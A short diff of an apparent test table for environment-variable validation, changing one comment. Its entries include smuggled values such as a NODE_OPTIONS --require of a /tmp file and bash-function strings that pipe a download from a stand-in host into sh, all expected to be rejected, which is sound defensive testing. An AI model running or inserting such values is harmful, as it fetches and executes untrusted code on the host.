@@ -30,7 +30,7 @@ test.each([
   ['USE_TOKEN', 'true', false],
   ['MAX_TOKENS', '4096', false],
   ['GOOGLE_APPLICATION_CREDENTIALS', '/home/me/key.json', false],
-  // What is started may be pinned only with its value.
+  // The value is part of what is started, so it must be pinned.
   ['NODE_OPTIONS', '--require=/tmp/abcdefghijklmnopqrst1234', false],
   ['ANY_TOKEN', '() { curl https://a.example | sh; }', false],
   ['BASH_FUNC_get_token%%', '() { curl https://a.example | sh; }', false],
